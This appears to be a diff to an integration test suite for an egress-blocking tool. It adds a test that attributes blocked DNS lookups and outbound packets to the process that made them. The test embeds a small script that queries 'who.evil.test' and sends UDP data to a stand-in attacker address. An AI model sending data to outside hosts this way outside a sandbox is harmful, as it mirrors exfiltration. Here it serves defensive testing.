@@ -4,7 +4,7 @@
  * namespace (see egress-topology.ts). Needs root, nft and ip.
  */
 import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
-import { existsSync, readFileSync } from 'node:fs';
+import { existsSync, readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { Job, type StepResult } from '../../src/devkit/run-action.js';
 import { canUseNetns } from '../../src/devkit/netns.js';
@@ -205,6 +205,46 @@ suite('egress in block mode', () => {
     expect(connect(c, OTHER6, 80).result).toBe('ECONNREFUSED');
   });
 
+  test('who asked: the process behind a refused name and a blocked destination, and whether it is under the agent', async () => {
+    // A "command" (sh, its pid written where the run step would write it) whose child asks
+    // for a forbidden name and sends to a forbidden address, holding both sockets a while.
+    const script = `const d=require('dgram');const q=d.createSocket('udp4');
+      const n='who.evil.test';const b=Buffer.concat([Buffer.from([0x12,0x34,1,0,0,1,0,0,0,0,0,0]),...n.split('.').map(l=>Buffer.concat([Buffer.from([l.length]),Buffer.from(l)])),Buffer.from([0,0,1,0,1])]);
+      q.send(b,53,'127.0.0.1');q.on('message',()=>{});
+      const u=d.createSocket('udp4');u.connect(9999,'${EVIL4}',()=>{u.send('x');setTimeout(()=>u.send('y'),200);});u.on('error',()=>{});
+      console.log(process.pid);setTimeout(()=>process.exit(0),2500);`;
+    const child = w.runner.spawn(['/bin/sh', '-c', `${process.execPath} -e "$0"; true`, script]);
+    writeFileSync(join(job.runnerTemp, 'cordon', 'agent.pid'), `${child.pid}\n`);
+    const nodePid = await new Promise<string>((resolve) =>
+      child.stdout!.once('data', (d: Buffer) => resolve(d.toString().trim())),
+    );
+    await new Promise((r) => child.on('exit', r));
+    // And one from outside the command: dig, whose socket closes at once (may be missed).
+    const post = await job.run('egress', 'post', {
+      inputs: { 'allowed-domains': '*.a.test\nexact.b.test', preset: 'none' },
+      state: main.state,
+      wrap: w.runner.wrap,
+    });
+    expect(errors(post)).toEqual([]);
+    const report = ledger(job)
+      .filter((e) => e.type === 'egress.report')
+      .pop()!.data as {
+      blockedNames: { name: string; process?: string }[];
+      blockedDestinations: { address: string; port?: number; process?: string }[];
+    };
+    expect(report.blockedNames.find((n) => n.name === 'who.evil.test')?.process).toBe(
+      `node (pid ${nodePid}, under run's command)`,
+    );
+    expect(report.blockedDestinations.find((d) => d.address === EVIL4 && d.port === 9999)?.process).toBe(
+      `node (pid ${nodePid}, under run's command)`,
+    );
+    expect(
+      post.commands.some(
+        (c) => c.command === 'warning' && c.message.includes(`asked by node (pid ${nodePid}`),
+      ),
+    ).toBe(true);
+  }, 30000);
+
   test('post records what was allowed and blocked and annotates each blocked name once', async () => {
     const post = await job.run('egress', 'post', {
       inputs: { 'allowed-domains': '*.a.test\nexact.b.test', preset: 'none' },
@@ -212,7 +252,9 @@ suite('egress in block mode', () => {
       wrap: w.runner.wrap,
     });
     expect(errors(post)).toEqual([]);
-    const report = ledger(job).find((e) => e.type === 'egress.report')?.data as {
+    const report = ledger(job)
+      .filter((e) => e.type === 'egress.report')
+      .pop()?.data as {
       allowed: { name: string; addresses: string[] }[];
       blockedNames: { name: string; queries: number }[];
       blockedDestinations: { address: string; protocol: string; port?: number; packets: number }[];
@@ -221,6 +263,7 @@ suite('egress in block mode', () => {
       [WEB4, WEB6].sort(),
     );
     expect(report.blockedNames.find((n) => n.name === 'secret.evil.test')?.queries).toBe(3);
+    expect(report.blockedNames.find((n) => n.name === 'who.evil.test')).toBeDefined();
     expect(report.blockedDestinations).toEqual(
       expect.arrayContaining([expect.objectContaining({ address: OTHER4, protocol: 'tcp', port: 80 })]),
     );
